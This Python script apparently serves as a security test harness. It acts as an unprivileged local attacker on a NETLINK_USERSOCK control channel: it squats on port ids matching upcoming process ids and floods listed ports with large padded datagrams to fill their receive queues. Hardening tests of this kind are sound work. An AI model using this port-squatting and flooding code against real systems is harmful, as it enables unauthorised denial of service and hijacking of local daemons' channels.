#!/usr/bin/env python3
"""An unprivileged local attacker of the NETLINK_USERSOCK control channel.

  nl_flood.py squat COUNT OUT     bind the port ids equal to the next COUNT
                                  pids (the old channel bound port == pid);
                                  writes "FIRST LAST" to OUT, then sleeps.
  nl_flood.py flood SECONDS PORTS send datagrams as fast as possible to every
                                  port listed in the file PORTS (re-read
                                  every 0.2 s); prints "sent N refused R
                                  other E" at the end.

Run it as nobody (setpriv): it must not need any privilege.
"""
import errno
import socket
import struct
import sys
import time

NETLINK_USERSOCK = 2


RETRIES = [300]  # for the whole squat: at most 3 s of waiting


def bind_port(s, port):
    # The kernel's port table grows in a deferred worker; while a loaded
    # machine has not run it, binds fail with EBUSY for a moment: retry.
    while True:
        try:
            s.bind((port, 0))
            return True
        except OSError as e:
            if e.errno not in (errno.EBUSY, errno.ENOMEM, errno.ENOBUFS) or RETRIES[0] == 0:
                return False
            RETRIES[0] -= 1
            time.sleep(0.01)


def squat(count, out):
    first = int(open("/proc/sys/kernel/ns_last_pid").read()) + 1
    socks, last = [], first - 1
    for port in range(first, first + count):
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_USERSOCK)
        if not bind_port(s, port):
            s.close()
            continue
        socks.append(s)
        last = port
    with open(out, "w") as f:
        f.write(f"{first} {last}\n")
    while True:
        time.sleep(3600)


def read_ports(path):
    try:
        return [int(x) for x in open(path).read().split()]
    except (OSError, ValueError):
        return []


def flood(seconds, ports_file):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_USERSOCK)
    s.bind((0, 0))
    s.setblocking(False)
    # A HEARTBEAT request (family 0x7273, NLM_F_REQUEST) padded to 16 KiB:
    # big datagrams fill a receive queue fastest.
    body = struct.pack("=BBH", 1, 1, 0) + b"\0" * (16 * 1024)
    msg = struct.pack("=IHHII", 16 + len(body), 0x7273, 1, 1, 0) + body
    sent = refused = other = 0
    end = time.monotonic() + seconds
    ports, next_read = [], 0.0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if now >= next_read:
            ports, next_read = read_ports(ports_file), now + 0.2
        for port in ports:
            for _ in range(8):
                try:
                    s.sendto(msg, (port, 0))
                    sent += 1
                except OSError as e:
                    if e.errno == errno.ECONNREFUSED:
                        refused += 1
                    else:
                        other += 1
                    break
        if not ports:
            time.sleep(0.05)
    print(f"sent {sent} refused {refused} other {other}")


if __name__ == "__main__":
    if sys.argv[1] == "squat":
        squat(int(sys.argv[2]), sys.argv[3])
    else:
        flood(float(sys.argv[2]), sys.argv[3])
